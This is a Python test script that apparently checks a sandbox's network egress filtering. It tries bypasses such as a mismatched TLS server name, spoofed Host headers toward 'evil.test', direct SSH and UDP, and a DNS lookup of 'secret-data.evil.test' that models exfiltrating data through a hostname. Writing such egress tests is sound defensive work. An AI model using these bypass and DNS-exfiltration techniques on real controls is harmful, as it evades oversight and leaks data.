"""A program that knows no proxy: looks names up, connects, and writes what became of each attempt as a JSON object."""
import http.client
import json
import os
import random
import socket
import ssl
import struct

results = {}
for name in list(os.environ):
    if name.lower().endswith("_proxy"):
        del os.environ[name]


def attempt(name):
    def run(function):
        try:
            results[name] = str(function())
        except socket.gaierror:
            results[name] = "not found"
        except OSError as error:
            results[name] = os.strerror(error.errno) if error.errno else str(error)
        except Exception as error:
            results[name] = repr(error)
        return function
    return run


def get(connection, host=None):
    connection.request("GET", "/unaware", headers={"Host": host} if host else {})
    return connection.getresponse().status


def ask(name, kind):
    """One question to the name server, and how many answers it has."""
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    number = random.randrange(65536)
    question = struct.pack(">HHHHHH", number, 0x0100, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">HH", kind, 1)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(5)
        s.sendto(question, ("127.0.0.1", 53))
        answer = s.recv(4096)
    assert struct.unpack(">H", answer[:2])[0] == number
    return answer[3] & 15, struct.unpack(">H", answer[6:8])[0]


@attempt("http")
def _():
    return get(http.client.HTTPConnection("allowed.test", timeout=10))


@attempt("https")
def _():
    return get(http.client.HTTPSConnection("allowed.test", timeout=10))


@attempt("https through the proxy")
def _():
    connection = http.client.HTTPSConnection("127.0.0.1", 4480, timeout=10)
    connection.set_tunnel("allowed.test", 443)
    return get(connection)


@attempt("http to a denied host")
def _():
    return get(http.client.HTTPConnection("denied.test", timeout=10))


@attempt("https to an unknown host")
def _():
    return get(http.client.HTTPSConnection("evil.test", timeout=10))


@attempt("https with another server name")
def _():
    with socket.create_connection(("allowed.test", 443), 10) as s:
        try:
            ssl.create_default_context().wrap_socket(s, server_hostname="evil.test")
        except ssl.SSLError as error:
            return f"refused: {error}"


@attempt("http with another host")
def _():
    return get(http.client.HTTPConnection("allowed.test", timeout=10), "evil.test")


@attempt("https with another host inside")
def _():
    return get(http.client.HTTPSConnection("allowed.test", timeout=10), "evil.test")


@attempt("ssh to an allowed host")
def _():
    return socket.create_connection(("allowed.test", 22), 10)


@attempt("udp to an allowed host")
def _():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(5)
        s.connect((socket.gethostbyname("allowed.test"), 443))
        s.send(b"quic")
        return s.recv(100)


@attempt("an address of the range that stands for no name")
def _():
    with socket.create_connection(("198.19.250.250", 443), 10) as s:
        s.settimeout(5)
        try:
            return "closed" if s.recv(100) == b"" else "answered"
        except ConnectionResetError:
            return "closed"


@attempt("ipv6 of an allowed host")
def _():
    return "absent" if ask("allowed.test", 28) == (0, 0) else "answered"


@attempt("text of an allowed host")
def _():
    return "absent" if ask("allowed.test", 16)[1] == 0 else "answered"


@attempt("data in a name")
def _():
    return socket.gethostbyname("secret-data.evil.test")


@attempt("a name that nobody goes to")
def _():
    return socket.gethostbyname("quiet.test")


print(json.dumps(results))
